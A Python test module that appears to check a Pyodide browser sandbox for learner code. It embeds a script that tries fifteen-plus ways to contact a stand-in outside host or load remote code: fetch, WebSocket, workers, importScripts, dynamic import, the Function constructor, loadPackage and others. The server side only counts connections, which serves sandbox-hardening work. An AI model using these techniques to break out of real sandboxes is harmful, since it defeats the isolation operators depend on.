"""What a learner could write to reach more than the answer, and a server that notices it."""

import threading
from contextlib import contextmanager
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

SOURCE = """
import time
import js
import pyodide_js
from pyodide.code import run_js

def ask(link):
    request = js.XMLHttpRequest.new()
    request.open("GET", link, False)
    request.send()

def work(link, **options):
    js.Worker.new(link, **options)

ATTEMPTS = {
    "fetch": lambda: js.fetch("http://HOST/fetch"),
    "request": lambda: ask("http://HOST/request"),
    "socket": lambda: js.WebSocket.new("ws://HOST/socket"),
    "events": lambda: js.EventSource.new("http://HOST/events"),
    "font": lambda: js.FontFace.new("font", "url(http://HOST/font)").load(),
    "scripts": lambda: js.importScripts("http://HOST/scripts.js"),
    "import": lambda: run_js("import('http://HOST/import.js'); 1"),
    "function": lambda: js.Function.new("fetch('http://HOST/function')")(),
    "own": lambda: ask(PAGE + "page.js"),
    "worker": lambda: work(js.URL.createObjectURL(js.Blob.new(["fetch('http://HOST/worker')"]))),
    "module": lambda: work(PAGE + "worker.js", type="module"),
    "tables": lambda: js.indexedDB.open("tables"),
    "caches": lambda: js.caches.open("caches"),
    "disk": lambda: js.navigator.storage.getDirectory(),
    "channel": lambda: js.BroadcastChannel.new("channel"),
}
PAGE = "http://FOLDER"
reached = []
for name, attempt in ATTEMPTS.items():
    try:
        attempt()
        reached.append(name)
    except Exception:
        pass
js.setTimeout("fetch('http://HOST/timer')")
pyodide_js.loadPackage("http://HOST/package.whl")
end = time.perf_counter() + 0.5  # In which a request is sent.
while time.perf_counter() < end:
    pass
raise ValueError(" ".join(reached))
"""
"""A learner's file that ends with the names of what it could begin: at most 100 letters are shown.
HOST stands for another server, FOLDER for that of the page. Only the other server knows what has
reached it."""


class OtherServer(ThreadingHTTPServer):
    """Counts connections, and ends them."""

    connections = 0

    def verify_request(self, *_):
        self.connections += 1
        return False


class PlainHandler(SimpleHTTPRequestHandler):
    """Serves files as any server does, with no policy."""

    extensions_map = SimpleHTTPRequestHandler.extensions_map | {
        ".mjs": "text/javascript",
        ".wasm": "application/wasm",
    }

    def log_message(self, *_):
        pass


@contextmanager
def running(server):
    """Let a server answer in a thread of its own; yield its host and port."""
    with server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield "{}:{}".format(*server.server_address)
        server.shutdown()
